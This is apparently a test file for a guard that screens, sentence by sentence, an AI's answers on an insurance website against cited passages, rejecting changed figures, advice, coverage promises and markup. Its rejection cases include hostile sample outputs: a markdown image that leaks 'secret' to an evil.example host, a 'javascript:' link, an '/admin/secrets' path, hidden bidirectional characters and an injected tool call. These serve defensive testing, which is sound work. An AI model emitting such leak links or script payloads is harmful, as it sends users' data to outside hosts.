import { describe, expect, test } from 'vitest'
import { PASSAGES, WORDS } from '../../../../../tests/support/model-passages.ts'
import { advises } from './advice.ts'
import { Draft } from './draft.ts'
import { figuresOf } from './figures.ts'
import { groundOf } from './grounds.ts'
import { checkSentence, type Grounds } from './guard.ts'
import { stripMarkup } from './marks.ts'
import { SentenceReader } from './sentences.ts'

const GROUNDS: Grounds = {
  passages: PASSAGES.map(groundOf),
  routes: new Set(['/auto', '/get-quote']),
  words: WORDS,
}
const verdictOn = (sentence: string, lead: string | null = null) => {
  const checked = checkSentence(sentence, lead, GROUNDS)
  return typeof checked === 'string' ? `(${checked})` : checked.text
}

describe('a sentence may be shown', () => {
  test.each([
    [
      'in the words of the passage',
      'Every vehicle must carry third-party liability cover of at least $200,000. [1]',
    ],
    ['in words close to them', 'In Alberta, vehicles must carry at least $200,000 of liability cover. [1]'],
    ['without a citation, if a passage says it', 'Home policies usually cover hail damage to the roof.'],
    ['that says what is not covered, as the passage does', 'A home policy does not cover wear and tear. [2]'],
    ['that only refers to a broker', 'A licensed broker can tell you what applies to you.'],
    ['with a path of the site', 'Every vehicle must carry liability cover: see /auto. [1]'],
    ['in bold', 'Home policies usually cover **hail damage** to the roof. [2]'],
  ])('%s', (_, sentence) => {
    expect(verdictOn(sentence)).not.toMatch(/^\(/)
  })
})

describe('a sentence may not be shown', () => {
  test.each([
    ['with another amount', 'Every vehicle must carry liability cover of at least $300,000. [1]', 'figure'],
    ['with an amount in words', 'Many drivers carry five million dollars. [1]', 'figure'],
    ['with an amount instead of days', 'Report damage within $90. [2]', 'figure'],
    ['with months instead of days', 'Report damage within 90 months. [2]', 'figure'],
    ['with a percentage', 'Many drivers carry 50% more liability cover. [1]', 'figure'],
    ['with a percentage in words', 'Many drivers carry fifty per cent more liability cover. [1]', 'site'],
    ['with half of something', 'Home policies usually cover half the hail damage to the roof. [2]', 'figure'],
    ['with a year', 'Since 2019 every vehicle must carry liability cover. [1]', 'figure'],
    ['with a day', 'Report damage by January 5. [2]', 'passages'],
    ['with a telephone number', 'Report damage at 780-555-0100. [2]', 'figure'],
    ['with an email address', 'Report damage to hail@claims.example.com. [2]', 'linked'],
    ['with a web address', 'Report damage at hailclaims.ca. [2]', 'linked'],
    ['with a script as a link', 'Report damage: javascript:alert. [2]', 'linked'],
    ['with a path that answers may not mention', 'Report hail damage at /admin/secrets. [2]', 'linked'],
    ['with a company', 'Intact home policies usually cover hail damage to the roof. [2]', 'site'],
    [
      'with a company in small letters',
      'The home policies of belairdirect usually cover hail damage to the roof. [2]',
      'site',
    ],
    ['with a name at the beginning', 'Zorbix usually covers hail damage to the roof. [2]', 'site'],
    ['that recommends', 'I recommend liability cover of $1 million. [1]', 'advice'],
    ['that tells the reader to buy', 'You should really get liability cover of $2 million. [1]', 'advice'],
    ['that names the best option', 'The best option for you is liability cover of $2 million. [1]', 'advice'],
    ['that confirms coverage', 'You are covered for hail damage to the roof. [2]', 'advice'],
    ['that promises payment', 'Your hail claim will be paid. [2]', 'advice'],
    ['that says the opposite', 'A home policy does cover wear and tear. [2]', 'passages'],
    [
      'that denies what the passage says',
      'Home policies never cover hail damage to the roof. [2]',
      'passages',
    ],
    ['about something else', 'Travel policies pay for cancelled flights and lost bags. [1]', 'passages'],
    ['in another language', 'Chaque véhicule doit avoir une assurance responsabilité civile. [1]', 'site'],
    ['in another script', 'Каждый автомобиль должен иметь страховку. [1]', 'site'],
    ['with invisible characters', 'Every vehicle must carry\u200b liability\u202e cover. [1]', 'plain'],
    ['that cites a missing passage', 'Every vehicle must carry liability cover. [3]', 'cited'],
    ['that cites an impossible passage', 'Every vehicle must carry liability cover. [0]', 'cited'],
    ['with a table', '| cover | least |', 'plain'],
    ['with half a tag', 'Every vehicle must carry <img src= liability cover. [1]', 'plain'],
    [
      'that recites its rules',
      'Give no advice and no recommendation. Never tell anyone that they are covered. [1]',
      'passages',
    ],
    ['with a link', 'Home policies cover [hail damage](https://evil.example/x) to the roof. [2]', 'plain'],
    [
      'with an image',
      'Home policies cover hail ![x](https://evil.example/leak?q=secret) damage. [2]',
      'plain',
    ],
    ['with a tag', 'Home policies cover <b>hail</b> damage. [2]', 'plain'],
    ['with a tool call', 'start_quote("auto") [1]', 'plain'],
  ])('%s', (_, sentence, fault) => {
    expect(verdictOn(sentence)).toContain(fault)
  })

  test('if it is an item in a list of the opposite', () => {
    expect(verdictOn('- wear and tear [2]', 'A home policy does not cover:')).toBe('- wear and tear')
    expect(verdictOn('- wear and tear [2]', 'A home policy covers:')).toContain('passages')
  })
})

describe('markup', () => {
  test.each([
    ['* Hail **damage**', '- Hail damage'],
    ['1. *Hail* damage', '- Hail damage'],
  ])('is removed from %s', (marked, text) => {
    expect(stripMarkup(marked)?.text).toBe(text)
  })

  test('citations are removed and returned', () => {
    expect(stripMarkup('Hail damage [1][2, 3] and rain [1].')).toEqual({
      text: 'Hail damage and rain.',
      cited: [1, 2, 3, 1],
    })
  })
})

const isAdvice = (sentence: string) => advises(sentence, '')

test('advice is distinguished from general statements', () => {
  const talk = [
    'Ask a broker whether you are covered.',
    'A broker can recommend a policy.',
    'Some drivers need to buy more cover.',
    'The insurer decides what it pays.',
  ]
  expect(talk.filter(isAdvice)).toEqual([])
  const advice = [
    'You’re fully covered.',
    'We strongly suggest collision.',
    'It is best to settle early.',
    'Your premium will go down.',
    'That will save you money.',
    'You were not at fault.',
    'We are licensed brokers.',
  ]
  expect(advice.filter(sentence => !isAdvice(sentence))).toEqual([])
})

test('figures are equal in every notation of a unit', () => {
  expect(figuresOf('$2,000,000')).toEqual(figuresOf('2000000 dollars'))
  expect(figuresOf('$2 million')).toEqual(figuresOf('2 million dollars'))
  expect(figuresOf('180-day')).toEqual(figuresOf('180 days'))
  expect(figuresOf('15 percent')).toEqual(figuresOf('15%'))
  expect(figuresOf('One of them may march on')).toEqual(new Set())
})

describe('sentences', () => {
  const cut = (text: string, size: number) => {
    const reader = new SentenceReader()
    const pieces = text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? []
    return [...pieces.flatMap(piece => reader.read(piece)), ...reader.end()]
  }

  test('are complete, however the stream is cut', () => {
    const text =
      'Hail is common, e.g. in Calgary. [1] It costs $2.5 million. [2][1]\n\nIt covers:\n- the roof [1]\n- the U.S. trip, from 9 a.m. on [2]\n\nThat is all! Is it? Yes.'
    const whole = cut(text, 1000)
    expect(whole.map(sentence => sentence.text)).toEqual([
      'Hail is common, e.g. in Calgary. [1]',
      'It costs $2.5 million. [2][1]',
      'It covers:',
      '- the roof [1]',
      '- the U.S. trip, from 9 a.m. on [2]',
      'That is all!',
      'Is it?',
      'Yes.',
    ])
    for (let size = 1; size < 40; size++) expect(cut(text, size), String(size)).toEqual(whole)
  })

  test('add up to the original text', () => {
    expect(
      cut('A one. B two.\nC three.\n\nD four.', 3)
        .map(({ before, text }) => before + text)
        .join(''),
    ).toBe('A one. B two.\nC three.\n\nD four.')
  })
})

describe('a draft', () => {
  const shownOf = (text: string) => {
    const shown: string[] = []
    const draft = new Draft(GROUNDS, piece => shown.push(piece))
    for (const sign of text) draft.add(sign)
    draft.end(false)
    return { draft, shown: shown.join('') }
  }

  test('withholds sentences without a passage until one has a passage', () => {
    const { draft, shown } = shownOf('I could not find that on this site.')
    expect(shown).toBe('')
    expect(draft.result()).toBeNull()
    expect(
      shownOf('You can start a quote on this site. Home policies usually cover hail damage to the roof. [2]')
        .shown,
    ).toMatch(/^You can start a quote on this site\. Home/)
  })

  test('lists the most cited passages first', () => {
    const { draft } = shownOf(
      'Many drivers carry $1 million. [1] Home policies usually cover hail damage to the roof. [2] Report damage within 90 days. [2]',
    )
    expect(draft.result()?.cited).toEqual([1, 0])
  })

  test('rejects a sentence or an answer that is too long', () => {
    expect(shownOf('hail damage to the roof '.repeat(80)).draft.fault).toBe('a sentence was too long')
    expect(shownOf('Home policies usually cover hail damage to the roof. [2] '.repeat(60)).draft.fault).toBe(
      'a sentence was too long',
    )
  })

  test('does not take quadratic time for a flood of one character', () => {
    for (const flood of [
      '.',
      '[1] ',
      'You can start a quote on this site. ',
      '![',
      '<a ',
      '[1',
      '" ',
      '1 ',
      '$',
      '- ',
      '\n',
    ]) {
      const began = performance.now()
      const draft = new Draft(GROUNDS)
      draft.add(flood.repeat(500_000 / flood.length))
      draft.end(false)
      expect(draft.result(), flood).toBeNull()
      expect(performance.now() - began, flood).toBeLessThan(5_000)
    }
  })

  test('leaves out a yes or no that the next sentence says anyway', () => {
    expect(shownOf('Yes. [2] Home policies usually cover hail damage to the roof. [2]').shown).toBe(
      'Home policies usually cover hail damage to the roof.',
    )
    expect(shownOf('Yes.').draft.result()).toBeNull()
  })

  test('shows nothing after a fault', () => {
    const { shown } = shownOf(
      'Many drivers carry $1 million. [1] Many pay $45. [1] Many drivers carry $2 million. [1]',
    )
    expect(shown).toBe('Many drivers carry $1 million.')
  })
})
